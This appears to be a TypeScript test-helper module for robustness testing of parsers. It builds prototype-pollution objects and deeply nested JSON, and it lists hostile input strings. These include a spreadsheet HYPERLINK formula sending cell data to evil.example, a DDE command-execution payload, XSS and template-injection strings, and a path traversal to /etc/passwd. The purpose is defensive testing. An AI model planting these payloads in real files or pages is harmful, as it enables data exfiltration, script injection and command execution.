/*
 * Harms data on purpose, one place at a time: what a hostile file or a forged message looks like when it is nearly
 * right. Deterministic, so that a failure can be looked at again.
 */

export type Place = readonly (string | number)[];

/** Every place in a value that holds something, the whole (`[]`) first. */
export function placesIn(value: unknown, at: Place = []): Place[] {
  if (typeof value !== 'object' || value === null) return [at];
  const inner = Array.isArray(value)
    ? value.map((one, index) => [index, one] as const)
    : Object.entries(value);
  return [at, ...inner.flatMap(([key, one]) => placesIn(one, [...at, key]))];
}

/** What stands at a place. */
export function valueAt(value: unknown, place: Place): unknown {
  return place.reduce<unknown>((inner, key) => (inner as Record<string | number, unknown>)[key], value);
}

/** A copy with something else at one place. */
export function withAt(value: unknown, [first, ...rest]: Place, other: unknown): unknown {
  if (first === undefined) return other;
  const inner = withAt((value as Record<string | number, unknown>)[first], rest, other);
  if (Array.isArray(value)) return value.map((one, index) => (index === first ? inner : one));
  // Not by assignment: `__proto__` is a key like any other here.
  return Object.fromEntries(
    Object.entries(value as object).map(([key, one]) => [key, key === String(first) ? inner : one]),
  );
}

/** Stands in a text for brackets that nest this deep; no `JSON.stringify` has to go down there. */
const DEEP = 'DEEP@';
/** What `toHostileText` writes as brackets of so many levels. */
export const deep = (levels: number): string => `${DEEP}${levels}`;

/** The text of a hostile file. */
export function toHostileText(value: unknown): string {
  return JSON.stringify(value).replace(new RegExp(`"${DEEP}(\\d+)"`, 'g'), (_, levels: string) => {
    const count = Number(levels);
    return `${'[{"a":'.repeat(count)}1${'}]'.repeat(count)}`;
  });
}

/** Own `__proto__` and friends, as `JSON.parse` makes them of a file. */
export const poison = (): unknown =>
  JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},"id":"x"}');

/** Names that mean something to every object. */
export const PROTOTYPE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
];

/** Texts that are harmless only where they are shown as text. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+cmd|"/c calc"!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\uFF1D1+1',
  '<img src=x onerror="globalThis.admin=1">',
  '</script><script>globalThis.admin=1</script>',
  'javascript:globalThis.admin=1',
  '#{globalThis.admin=1}',
  '{{constructor.constructor("globalThis.admin=1")()}}',
  '\u0000\u0001\u2028\u202E',
  '\uD800',
  '../../../etc/passwd',
  '%00',
] as const;

/** Numbers in a row by a seed, below a bound: the same ones in every run. */
export function chances(seed: number): (below: number) => number {
  let state = seed >>> 0;
  return (below) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

/** Whether anything got onto what every object has. */
export const isPoisoned = (): boolean =>
  'admin' in Object.prototype || 'admin' in Array.prototype || 'admin' in globalThis;
